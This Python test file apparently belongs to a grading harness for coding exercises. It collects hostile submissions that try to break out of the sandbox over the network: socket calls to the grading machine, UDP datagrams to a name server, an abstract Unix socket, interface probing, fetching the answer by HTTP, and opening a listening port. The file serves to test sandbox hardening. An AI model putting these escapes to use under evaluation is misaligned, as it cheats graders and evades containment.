"""Attacks over the network and over sockets of the grading machine. The listener of listening.py is what they look for."""
from __future__ import annotations

from tests.hostile import listening
from tests.hostile.attack import attack, rewarded

MASK = dict(lesson="p1_4_attention", exercise="attention-causal-mask")
SAYS = r"network"


@attack(**MASK, earns=0.0, says=SAYS, harm=listening.heard)
def calls_the_grading_machine(answer):
    """Connects to a port of the grading machine, by each of its names."""
    breach = ("import socket\nfor host in ('127.0.0.1', 'localhost', '::1', socket.gethostname()):\n    try:\n"
              "        with socket.create_connection((host, %PORT%), timeout=0.3) as line:\n            line.sendall(b'%MARKER%')\n            return True\n"
              "    except OSError:\n        pass\nreturn False\n")
    return rewarded(answer, breach)


@attack(**MASK, earns=0.0, says=SAYS, harm=listening.heard)
def sends_datagrams(answer):
    """Sends datagrams to the grading machine and to a name server, which need no answer."""
    breach = ("import socket\nwith socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:\n    line.sendto(b'%MARKER%', ('127.0.0.1', %PORT%))\n"
              "    line.sendto(b'%MARKER%', ('192.0.2.1', 53))\nreturn True\n")  # 192.0.2.1 belongs to nobody (RFC 5737)
    return rewarded(answer, breach)


@attack(**MASK, earns=0.0, says=SAYS, harm=listening.heard)
def calls_an_abstract_socket(answer):
    """Connects to a socket that has a name but no file, which only a network namespace shuts away."""
    breach = ("import socket\nwith socket.socket(socket.AF_UNIX) as line:\n    line.settimeout(0.3)\n    line.connect('\\0%PORT%-of-the-grading-machine')\n"
              "    line.sendall(b'%MARKER%')\nreturn True\n")
    return rewarded(answer, breach)


@attack(**MASK, earns=0.0, says=SAYS)
def looks_for_interfaces(answer):
    """Looks for network interfaces other than the loop to itself that are up."""
    breach = ("import fcntl, socket, struct\nwith socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:\n    for _, name in socket.if_nameindex():\n"
              "        flags = fcntl.ioctl(line, 0x8913, struct.pack('16sh', name.encode(), 0))\n"
              "        if name != 'lo' and struct.unpack('16sh', flags[:18])[1] & 1:\n            return True\nreturn False\n")
    return rewarded(answer, breach)


@attack(**MASK, earns=0.0, says=SAYS)
def fetches_an_answer(answer):
    """Fetches its answer by HTTP, from the grading machine, and waits for it."""
    return {"answer": "import urllib.request\n\ndef causal_mask(n):\n    return urllib.request.urlopen('http://127.0.0.1:%PORT%/answer', timeout=2).read()\n"}


@attack(**MASK, earns=None, says=SAYS)
def listens_for_orders(answer):
    """Opens a port of its own and waits for somebody to call."""
    wait = ("import socket\ntry:\n    with socket.create_server(('0.0.0.0', 0)) as _line:\n        _line.settimeout(1)\n        _line.accept()\nexcept OSError:\n    pass\n")
    return {"answer": f"{answer}\n\n{wait}"}
